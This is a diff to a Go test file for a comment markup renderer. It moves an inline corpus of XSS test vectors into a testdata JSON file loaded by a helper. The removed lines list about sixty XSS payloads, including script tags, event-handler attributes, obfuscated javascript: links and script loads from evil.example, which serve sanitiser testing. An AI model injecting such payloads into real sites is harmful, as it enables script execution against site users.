@@ -1,8 +1,11 @@
 package markup
 
 import (
+	"encoding/json"
 	"html"
 	"net/url"
+	"os"
+	"path/filepath"
 	"regexp"
 	"strings"
 	"testing"
@@ -48,75 +51,26 @@ func TestCommentRenderer_HTML(t *testing.T) {
 	}
 }
 
-// xssVectors are comment texts that try to run script, load something or
-// restyle the page. None may come out as markup that does.
-var xssVectors = []string{
-	`<script>alert(1)</script>`,
-	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-	`<scr<script>ipt>alert(1)</script>`,
-	`<img src=x onerror=alert(1)>`,
-	`<body onload=alert(1)>`,
-	`<a href="#" onclick="alert(1)">x</a>`,
-	`<div onmouseover="alert(1)">hover</div>`,
-	`[x](javascript:alert(1))`,
-	`[x](JaVaScRiPt:alert(1))`,
-	`[x](java&#115;cript:alert(1))`,
-	`[x](&#106;avascript:alert(1))`,
-	"[x](java\tscript:alert(1))",
-	`[x](  javascript:alert(1))`,
-	`[x](vbscript:msgbox(1))`,
-	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
-	`![x](data:image/svg+xml;base64,PHN2Zy8+)`,
-	`![x](javascript:alert(1))`,
-	`<javascript:alert(1)>`,
-	`<data:text/html,<script>alert(1)</script>>`,
-	`[x](https://example.com/" onmouseover="alert(1))`,
-	`[x](https://example.com/"><script>alert(1)</script>)`,
-	`[x](<https://example.com/"onclick="alert(1)>)`,
-	`https://example.com/"><script>alert(1)</script>`,
-	`[x]( "https://example.com" onclick=alert(1))`,
-	`<svg onload=alert(1)>`,
-	`<svg><script>alert(1)</script></svg>`,
-	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
-	`<iframe src="javascript:alert(1)"></iframe>`,
-	`<object data="javascript:alert(1)">`,
-	`<embed src="data:text/html,<script>alert(1)</script>">`,
-	`<style>body{background:url(javascript:alert(1))}</style>`,
-	`<p style="background:url('javascript:alert(1)')">x</p>`,
-	`<div style="width:expression(alert(1))">x</div>`,
-	`<link rel=stylesheet href=//evil.example/x.css>`,
-	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
-	`<base href="javascript:alert(1)//">`,
-	`<form action="javascript:alert(1)"><button>x</button></form>`,
-	`<input autofocus onfocus=alert(1)>`,
-	`<details open ontoggle=alert(1)>`,
-	`<!--<script>alert(1)</script>-->`,
-	`<![CDATA[<script>alert(1)</script>]]>`,
-	`<<script>script>alert(1)<</script>/script>`,
-	`<img """><script>alert(1)</script>">`,
-	`<a href="javas&#x09;cript:alert(1)">x</a>`,
-	`&lt;script&gt;alert(1)&lt;/script&gt;`,
-	`&#60;script&#62;alert(1)&#60;/script&#62;`,
-	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
-	"<scr\x00ipt>alert(1)</script>",
-	"`<script>alert(1)</script>`",
-	"```html\n<script>alert(1)</script>\n```",
-	"> <script>alert(1)</script>",
-	"*<img src=x onerror=alert(1)>*",
-	`[<img src=x onerror=alert(1)>](https://example.com/)`,
-	`[x](https://example.com/ "title\" onclick=\"alert(1)")`,
-	"[x]\n\n[x]: javascript:alert(1)",
-	`<a href="https://example.com/" target="_blank" rel="opener">x</a>`,
-	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-	`<template><script>alert(1)</script></template>`,
-	`<x onclick=alert(1)>x</x>`,
-	`"><script>alert(1)</script>`,
-	`'><script>alert(1)</script>`,
+// xssVectors returns the comment texts that try to run script, load
+// something or restyle the page. None may come out as markup that does.
+// The corpus is kept in testdata/comment_xss.json, which the Chromium
+// tests of internal/e2e post as comments too.
+func xssVectors(tb testing.TB) []string {
+	tb.Helper()
+	b, err := os.ReadFile(filepath.Join("testdata", "comment_xss.json"))
+	if err != nil {
+		tb.Fatal(err)
+	}
+	var v []string
+	if err := json.Unmarshal(b, &v); err != nil {
+		tb.Fatalf("testdata/comment_xss.json: %v", err)
+	}
+	return v
 }
 
 func TestCommentRenderer_XSSCorpus(t *testing.T) {
 	r := NewCommentRenderer()
-	for _, src := range xssVectors {
+	for _, src := range xssVectors(t) {
 		checkSafeComment(t, src, r.HTML(src))
 	}
 }
@@ -162,7 +116,7 @@ func webHref(href string) bool {
 }
 
 func FuzzCommentRenderer_HTML(f *testing.F) {
-	for _, src := range xssVectors {
+	for _, src := range xssVectors(f) {
 		f.Add(src)
 	}
 	f.Add("**bold** _em_ `code`\n\n> quote\n\n    block\n\n[x](https://example.com/) www.example.com")
